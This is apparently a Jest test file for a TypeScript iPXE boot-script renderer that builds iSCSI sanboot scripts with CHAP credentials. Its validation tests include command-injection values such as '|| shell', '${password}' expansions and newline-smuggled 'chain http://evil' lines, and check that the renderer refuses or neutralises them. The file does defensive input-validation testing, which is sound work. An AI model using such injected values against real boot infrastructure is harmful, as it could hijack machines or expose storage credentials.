import { ipxeText, renderExitScript, renderSanbootScript, sanbootUri, UnsafeScriptValueError, type SanbootScriptInput } from './ipxe-script';

const input = (overrides: Partial<SanbootScriptInput> = {}): SanbootScriptInput => ({
  nodeLabel: 'node-a (52:54:00:12:34:56)',
  lunName: 'boot-a',
  initiatorIqn: 'iqn.2010-04.org.ipxe:525400123456',
  target: { portalIp: '192.0.2.10', portalPort: 3260, lunNumber: 1, iqn: 'iqn.2026-11.io.bootlun:boot-a' },
  chap: null,
  mutualChap: null,
  ...overrides,
});
const CHAP = { username: 'bl0123456789ab', secret: 'Abcdefgh2345jkLm' };
const MUTUAL = { username: 'bt0123456789ab', secret: 'Zyxwvuts9876rqPn' };
const lines = (script: string) => script.trimEnd().split('\n');

describe('sanbootUri', () => {
  it('builds iscsi:<server>::<port>:<lun hex>:<iqn>', () => {
    expect(sanbootUri(input().target)).toBe('iscsi:192.0.2.10::3260:1:iqn.2026-11.io.bootlun:boot-a');
  });

  it('writes the LUN number in hex (LIO 0, larger numbers)', () => {
    expect(sanbootUri({ ...input().target, lunNumber: 0 })).toBe('iscsi:192.0.2.10::3260:0:iqn.2026-11.io.bootlun:boot-a');
    expect(sanbootUri({ ...input().target, lunNumber: 26 })).toBe('iscsi:192.0.2.10::3260:1a:iqn.2026-11.io.bootlun:boot-a');
  });

  it('puts an IPv6 portal in brackets and keeps a non-default port', () => {
    expect(sanbootUri({ ...input().target, portalIp: 'fd00::10', portalPort: 3261 })).toBe('iscsi:[fd00::10]::3261:1:iqn.2026-11.io.bootlun:boot-a');
  });

  it.each([
    ['portal address', { portalIp: 'storage.example' }],
    ['portal address', { portalIp: 'fe80::1%eth0' }],
    ['portal address', { portalIp: '192.0.2.10 || shell' }],
    ['portal port', { portalPort: 0 }],
    ['portal port', { portalPort: 70000 }],
    ['LUN number', { lunNumber: -1 }],
    ['LUN number', { lunNumber: 1.5 }],
    ['target IQN', { iqn: 'iqn.2026-11.io.bootlun:boot-a${password}' }],
    ['target IQN', { iqn: 'iqn.2026-11.io.bootlun:a\nshell' }],
  ])('refuses an unsafe %s', (field, patch) => {
    expect(() => sanbootUri({ ...input().target, ...patch })).toThrow(new UnsafeScriptValueError(field));
  });
});

describe('renderSanbootScript', () => {
  it('without CHAP: shebang, initiator IQN, three bounded sanboot tries, a failure message and exit 1', () => {
    const script = renderSanbootScript(input());
    expect(script.endsWith('\n')).toBe(true);
    expect(lines(script)).toEqual([
      '#!ipxe',
      '# bootlun: node node-a (52:54:00:12:34:56) boots LUN boot-a (iqn.2026-11.io.bootlun:boot-a)',
      'set initiator-iqn iqn.2010-04.org.ipxe:525400123456',
      'echo bootlun: booting node-a (52:54:00:12:34:56) from LUN boot-a (try 1 of 3)',
      'sanboot iscsi:192.0.2.10::3260:1:iqn.2026-11.io.bootlun:boot-a || goto bootlun_retry_1',
      ':bootlun_retry_1',
      'echo bootlun: sanboot failed, trying again in 3 s',
      'sleep 3',
      'echo bootlun: booting node-a (52:54:00:12:34:56) from LUN boot-a (try 2 of 3)',
      'sanboot iscsi:192.0.2.10::3260:1:iqn.2026-11.io.bootlun:boot-a || goto bootlun_retry_2',
      ':bootlun_retry_2',
      'echo bootlun: sanboot failed, trying again in 3 s',
      'sleep 3',
      'echo bootlun: booting node-a (52:54:00:12:34:56) from LUN boot-a (try 3 of 3)',
      'sanboot iscsi:192.0.2.10::3260:1:iqn.2026-11.io.bootlun:boot-a || goto bootlun_failed',
      ':bootlun_failed',
      'echo bootlun: could not boot from LUN boot-a after 3 tries. Check that the storage host is up, the LUN is assigned to this node and its CHAP credentials match',
      'exit 1',
    ]);
    expect(script).not.toMatch(/username|password/);
  });

  it('with CHAP: username and password before the first sanboot, no reverse credentials', () => {
    const l = lines(renderSanbootScript(input({ chap: CHAP })));
    expect(l.slice(2, 5)).toEqual(['set initiator-iqn iqn.2010-04.org.ipxe:525400123456', 'set username bl0123456789ab', 'set password Abcdefgh2345jkLm']);
    expect(l.join('\n')).not.toMatch(/reverse/);
  });

  it('with mutual CHAP: reverse-username and reverse-password too', () => {
    const l = lines(renderSanbootScript(input({ chap: CHAP, mutualChap: MUTUAL })));
    expect(l.slice(3, 7)).toEqual(['set username bl0123456789ab', 'set password Abcdefgh2345jkLm', 'set reverse-username bt0123456789ab', 'set reverse-password Zyxwvuts9876rqPn']);
    expect(l.findIndex((x) => x.startsWith('sanboot'))).toBeGreaterThan(6);
  });

  it('honours the retry settings: one try has no sleep; the loop is always bounded', () => {
    const once = renderSanbootScript(input({ retry: { attempts: 1, delaySeconds: 5 } }));
    expect(once.match(/^sanboot /gm)).toHaveLength(1);
    expect(once).not.toMatch(/sleep/);
    const five = renderSanbootScript(input({ retry: { attempts: 5, delaySeconds: 0 } }));
    expect(five.match(/^sanboot /gm)).toHaveLength(5);
    expect(five).not.toMatch(/sleep/);
    // Labels only ever jump forward: no line jumps back to an earlier label.
    const l = lines(five);
    l.forEach((line, i) => {
      const target = /goto (\S+)$/.exec(line)?.[1];
      if (target) expect(l.indexOf(`:${target}`)).toBeGreaterThan(i);
    });
    expect(() => renderSanbootScript(input({ retry: { attempts: 0, delaySeconds: 1 } }))).toThrow(RangeError);
    expect(() => renderSanbootScript(input({ retry: { attempts: 11, delaySeconds: 1 } }))).toThrow(RangeError);
    expect(() => renderSanbootScript(input({ retry: { attempts: 2, delaySeconds: 61 } }))).toThrow(RangeError);
  });

  it.each([
    ['initiator IQN', { initiatorIqn: 'iqn.2010-04.org.ipxe:x ${password}' }],
    ['initiator IQN', { initiatorIqn: 'iqn.2010-04.org.ipxe:x\nchain http://evil' }],
    ['initiator IQN', { initiatorIqn: 'IQN.2010-04.org.ipxe:upper' }],
    ['CHAP user name', { chap: { ...CHAP, username: 'bl x' } }],
    ['CHAP user name', { chap: { ...CHAP, username: 'bl||shell' } }],
    ['CHAP secret', { chap: { ...CHAP, secret: 'short' } }],
    ['CHAP secret', { chap: { ...CHAP, secret: 'Abcdefgh2345jk${' } }],
    ['CHAP secret', { chap: { ...CHAP, secret: 'Abcdefgh 2345jkL' } }],
    ['CHAP secret', { chap: { ...CHAP, secret: 'Abcdefgh2345jk\n#' } }],
    ['mutual CHAP secret', { chap: CHAP, mutualChap: { ...MUTUAL, secret: 'Abcdefgh2345jk|m' } }],
    ['mutual CHAP without CHAP', { mutualChap: MUTUAL }],
  ])('refuses to render with an unsafe %s, without echoing the value', (field, patch) => {
    let error: unknown;
    try {
      renderSanbootScript(input(patch as Partial<SanbootScriptInput>));
    } catch (err) {
      error = err;
    }
    expect(error).toBeInstanceOf(UnsafeScriptValueError);
    expect((error as UnsafeScriptValueError).field).toBe(field);
    expect((error as Error).message).not.toMatch(/\$\{|\|\||short|evil/);
  });

  it('reduces free text in messages to characters iPXE cannot interpret', () => {
    const script = renderSanbootScript(input({ nodeLabel: 'x${password} || chain http://evil #;&"\'\\{}\nexit', lunName: 'boot-a' }));
    for (const line of lines(script).filter((l) => l.startsWith('echo') || l.startsWith('# '))) {
      expect(line.slice(1)).not.toMatch(/[$|#&;"'\\{}]/);
    }
    expect(lines(script)).toHaveLength(18);
  });
});

describe('renderExitScript', () => {
  it('falls through with a bare exit, or fails with a status', () => {
    expect(renderExitScript('node 52:54:00:12:34:56 has no boot_from_san LUN assigned')).toBe('#!ipxe\necho bootlun: node 52:54:00:12:34:56 has no boot_from_san LUN assigned\nexit\n');
    expect(renderExitScript('nope', 1)).toBe('#!ipxe\necho bootlun: nope\nexit 1\n');
  });

  it('cannot be made to run commands by its message', () => {
    const script = renderExitScript('mac ${net0/mac}\nchain http://evil || shell');
    expect(lines(script)).toHaveLength(3);
    expect(script).not.toMatch(/[${}|]/);
  });
});

describe('ipxeText', () => {
  it('keeps ordinary words, hostnames, MACs and IQNs; replaces the rest; one line', () => {
    expect(ipxeText('node-a.example (52:54:00:12:34:56) iqn.2026-11.io.x:y, LUN_1 = 100% + @')).toBe('node-a.example (52:54:00:12:34:56) iqn.2026-11.io.x:y, LUN_1 = 100? + @');
    expect(ipxeText('a\n\tb')).toBe('a b');
    expect(ipxeText('${x}')).toBe('??x?');
    expect(ipxeText('a; b')).toBe('a, b');
  });
});
